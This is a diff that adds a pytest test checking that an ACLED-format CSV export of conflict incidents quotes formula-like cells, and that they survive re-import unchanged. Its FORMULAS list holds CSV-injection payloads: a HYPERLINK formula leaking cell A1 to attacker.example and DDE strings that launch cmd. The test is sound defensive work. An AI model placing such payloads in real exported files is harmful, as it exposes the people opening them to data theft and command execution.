@@ -406,6 +406,66 @@ def test_a_rejected_source_does_not_travel(dataset, run_import, tmp_path):
     assert ImportedEvent.objects.get(external_id=dataset["mine"].code).document.author == "L'Essor"
 
 
+# Text a spreadsheet would run as a formula (OWASP "CSV Injection"), and one already quoted as our exports quote.
+FORMULAS = [
+    '=HYPERLINK("https://attacker.example/?"&A1,"Details")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "'-already quoted",
+]
+
+
+@pytest.fixture
+def hostile(db):
+    """A published incident whose every text ACLED carries (notes, places, actors, sources) starts as a formula."""
+    incident = published(
+        title=FORMULAS[0],
+        notes=FORMULAS[0],
+        admin1=FORMULAS[1],
+        admin2=FORMULAS[2],
+        admin3=FORMULAS[3],
+        location_name=FORMULAS[4],
+        latitude=Decimal("14.35000"),
+        longitude=Decimal("-3.61000"),
+        event_type=EventType.VIOLENCE_AGAINST_CIVILIANS,
+        sub_event_type=SubEventType.ATTACK,
+        fatalities_low=3,
+        fatalities_best=3,
+        fatalities_high=3,
+    )
+    kinds = [ActorKind.STATE_FORCES, ActorKind.REBEL_GROUP, ActorKind.IDENTITY_MILITIA, ActorKind.CIVILIANS]
+    roles = [("perpetrator", Side.A), ("perpetrator", Side.A), ("target", Side.B), ("target", Side.B)]
+    for name, kind, (role, side) in zip(FORMULAS, kinds, roles, strict=False):
+        take_part(incident, ActorFactory(name=name, kind=kind), role, side)
+    cite(incident, SourceFactory(name=FORMULAS[3], kind=SourceKind.HUMAN_RIGHTS_NGO))
+    return incident
+
+
+def test_formulas_are_exported_quoted_and_imported_as_they_were(hostile, run_import, tmp_path, editor):
+    exported = export_acled()
+    row = rows_by_id(exported)[hostile.code]
+    # Each cell that would run starts with an apostrophe; the longitude, a number, is left a number.
+    assert (row["notes"], row["admin1"], row["location"]) == (
+        f"'{FORMULAS[0]}",
+        f"'{FORMULAS[1]}",
+        "''-already quoted",
+    )
+    assert row["actor1"].startswith("'") and row["source"] == f"'{FORMULAS[3]}"
+    assert row["longitude"] == "-3.61000"
+
+    job = import_text(run_import, tmp_path, exported, "hostile.csv")
+
+    imported = ImportedEvent.objects.select_related("incident", "document").get(external_id=hostile.code)
+    assert job.actors_created == 0
+    assert carried(imported.incident) == carried(hostile)
+    assert imported.document.author == FORMULAS[3]
+    # Exported again, the imported copy gives the same file.
+    incident_retract(incident=hostile, by=editor, reason="Replaced by its ACLED round trip.")
+    again = rows_by_id(export_acled())[hostile.code]
+    assert {k: v for k, v in again.items() if k not in VOLATILE} == {k: v for k, v in row.items() if k not in VOLATILE}
+
+
 # Last in the module: the demo data, loaded once per module, stays until the module's end.
 def test_the_demo_data_round_trips(demo, run_import, tmp_path):
     exported = export_acled()
